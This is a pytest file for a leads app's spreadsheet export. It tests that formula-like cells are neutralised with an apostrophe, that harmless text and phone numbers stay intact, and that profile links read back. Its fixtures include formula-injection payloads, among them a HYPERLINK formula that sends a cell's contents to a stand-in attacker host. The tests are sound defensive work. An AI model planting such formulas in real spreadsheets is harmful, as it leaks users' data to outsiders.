"""The cells of an export: what a spreadsheet may run, and what an import reads back."""

import pytest

from app.leads.domain.identity import IdentityKind, profile_identity
from app.leads.domain.sheet import COLUMNS, headings, identity_cells, phone_cell, profile_address, text_cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "=", "-",
)  # fmt: skip
HARMLESS = ("Ana", "a=b", "a-b", 'José, "o" João', "😀", "a; b", "x@y.example", "linha\nlinha", "'=1")


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert text_cell(text).startswith("'")
    assert text_cell(text).endswith(text.lstrip()[1:])


@pytest.mark.parametrize("text", HARMLESS, ids=range(len(HARMLESS)))
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.parametrize("before", [";", "; ", ';"', "\t", "\n", "\r\n"], ids=range(6))
def test_so_does_one_that_another_separator_would_bring_out(before: str) -> None:
    assert text_cell(f"a{before}=1") == f"a{before}'=1"


def test_a_phone_number_stays_what_other_programs_dial() -> None:
    assert phone_cell("+5511987654321") == "+5511987654321"
    for strange in ("+1+1", "+55 11", "+55119\n", "=1", "+\u0661\u0662"):
        assert phone_cell(strange).startswith("'")
    assert phone_cell(None) == ""


@pytest.mark.parametrize(
    ("kind", "handle"),
    [
        (IdentityKind.LINKEDIN, "ana-souza"),
        (IdentityKind.LINKEDIN, "company/acme"),
        (IdentityKind.LINKEDIN, "joão-çedilha"),
        (IdentityKind.LINKEDIN, "a%b~c"),
        (IdentityKind.INSTAGRAM, "ana.souza_1"),
        (IdentityKind.FACEBOOK, "ana.souza"),
        (IdentityKind.FACEBOOK, "100004711"),
    ],
    ids=range(7),
)
def test_a_profiles_address_is_read_back(kind: IdentityKind, handle: str) -> None:
    assert profile_identity(kind, profile_address(kind, handle)).value == handle


def test_identities_beside_the_primary_ones_share_a_cell() -> None:
    rows = [
        ("EMAIL", "a@example.com", "true"),
        ("EMAIL", "b@example.com", "false"),
        ("INSTAGRAM", "ana", "true"),
        ("INSTAGRAM", "ana2", "false"),
        ("PHONE", "+5511987654321", "true"),
        ("WHATSAPP", "+5511987654322", "true"),
    ]
    assert identity_cells(rows) == [
        "",
        "https://www.instagram.com/ana",
        "",
        "EMAIL:b@example.com; INSTAGRAM:ana2; WHATSAPP:+5511987654322",
    ]


def test_every_column_has_a_name_in_both_languages() -> None:
    assert headings("en") == COLUMNS
    assert len(set(headings("pt-BR"))) == len(COLUMNS) == len(set(COLUMNS))
